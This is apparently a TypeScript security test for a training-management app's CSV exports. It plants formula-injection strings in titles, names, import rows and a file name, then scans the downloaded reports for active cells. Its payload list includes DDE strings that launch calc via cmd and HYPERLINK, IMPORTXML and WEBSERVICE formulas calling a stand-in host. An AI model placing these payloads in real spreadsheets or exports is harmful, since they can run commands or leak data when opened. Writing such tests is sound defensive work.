import { setTimeout as delay } from 'node:timers/promises';
import { parse } from 'csv-parse/sync';
import { jsonOf, multipart } from '../access/http.js';
import type { World } from '../access/world.js';
import { day } from '../journeys/office.js';
import type { Tally } from './run.js';

/** Beginnings that a spreadsheet takes for a formula, alone and hidden. */
const formulas: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM',
  ' =1+1',
  '  +1',
  '\u3000=1+1',
  '\u00a0=1',
  '\ufeff=1+1',
  '\u200b=1+1',
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example","x")',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example")',
  '@IMPORTDATA(A1)',
  '-2+3+cmd|x',
  '=DDE("cmd";"/C calc";"x")',
  '"=1+1',
  `'=1+1`,
  '";=1+1',
  ',=1+1',
  ';=1+1',
  '|=1+1',
  '%0A=1+1',
  '=1+1\u2028',
  '\u2028=1+1',
  '=A1&"x"',
  '−1+1',
  '﹣1',
  '﹢1',
  '﹦1',
  '\u202e=1+1',
  '\u2060=1',
  '=',
  '-',
  '@',
];
const active = /^[\s\u200b\u2060\ufeff\u202e]*[=+\-@＝＋－＠]|^[\t\r\n\0]/u;
const plainNumber = /^-?\d+(?:[.]\d+)?$/;

/** Cells of a file that a spreadsheet would run. */
function activeCells(file: string): string[] {
  const rows = parse(file, { bom: true, relax_column_count: true, record_delimiter: ['\r\n', '\n'] }) as string[][];
  return rows.flat().filter((cell) => active.test(cell) && !plainNumber.test(cell));
}

/** Writes the formulas into every free text that an export shows, and reads all exports back. */
export async function exportFormulas(
  world: World,
  headers: Record<string, string>,
  tally: Tally,
  share: number,
): Promise<void> {
  const chosen = formulas.filter((_, at) => at % share === 0);
  const json = { ...headers, 'content-type': 'application/json' };
  const post = async (path: string, body: object) =>
    world.http.askPatiently({ method: 'POST', path: `/api/v1${path}`, headers: json, body: JSON.stringify(body) });
  const fiscalYear = 2031;
  const programmes: string[] = [];
  for (const [at, formula] of chosen.entries()) {
    const course = await post('/courses', {
      key: `formula-${at}`,
      title: formula,
      lessons: [{ key: 'one', minutes: 10, title: formula }],
    });
    if (course.status !== 200) {
      tally.add(
        'CSV out',
        `course ${formula}`,
        course.status === 400 ? null : `${course.status} ${course.text.slice(0, 80)}`,
      );
      continue;
    }
    const { course: id } = jsonOf(course) as { course: string };
    const opened = await post('/programmes', {
      key: `formula-${at}`,
      name: formula,
      audience: 'staff',
      fiscalYear,
      startsOn: day(-5),
      endsOn: day(5),
      courses: [id],
    });
    const { programme } = jsonOf(opened) as { programme?: string };
    tally.add('CSV out', `programme ${formula}`, programme ? null : `${opened.status} ${opened.text.slice(0, 80)}`);
    if (programme) programmes.push(programme);
  }
  const paths = [
    ...programmes.map((id) => `/reports/programmes/${id}.csv`),
    `/reports/municipalities/992011.csv?fiscalYear=${fiscalYear}`,
    `/reports/network.csv?fiscalYear=${fiscalYear}`,
    `/imports/${await refusedFormulas(world, headers, chosen)}/errors.csv`,
  ];
  for (const path of paths) {
    const file = await fileAt(world, headers, path, programmes.length);
    const cells = file === undefined ? ['no file came'] : activeCells(file);
    tally.add('CSV out', path, cells.length > 0 ? `active cells: ${JSON.stringify(cells.slice(0, 5))}` : null);
  }
}

/** The file, once the programmes are in it. */
async function fileAt(
  world: World,
  headers: Record<string, string>,
  path: string,
  programmes: number,
): Promise<string | undefined> {
  const isYear = path.includes('fiscalYear');
  for (const deadline = Date.now() + 20_000; Date.now() < deadline; await delay(100)) {
    const { status, text } = await world.http.askPatiently({ method: 'GET', path: `/api/v1${path}`, headers });
    if (status === 200 && (!isYear || text.split('\r\n').length > programmes)) return text;
  }
  return undefined;
}

/** An import whose rows are all refused, with a formula in every cell and every spare header. */
async function refusedFormulas(
  world: World,
  headers: Record<string, string>,
  chosen: readonly string[],
): Promise<string> {
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
  const spare = chosen.map((formula, at) => quoted(`${formula}${at}`));
  const rows = chosen.map((formula) =>
    ['', quoted(formula), quoted(formula), '', ...spare.map(() => quoted(formula))].join(),
  );
  const text = [['職員番号', '氏', '名', 'メールアドレス', ...spare].join(), ...rows].join('\r\n');
  const form = multipart({ audience: 'staff' }, { name: '=1+1.csv', bytes: Buffer.from(text) });
  const started = await world.http.askPatiently({
    method: 'POST',
    path: '/api/v1/imports/people',
    headers: { ...headers, ...form.headers },
    body: form.body,
  });
  return String(jsonOf(started)['importId']);
}
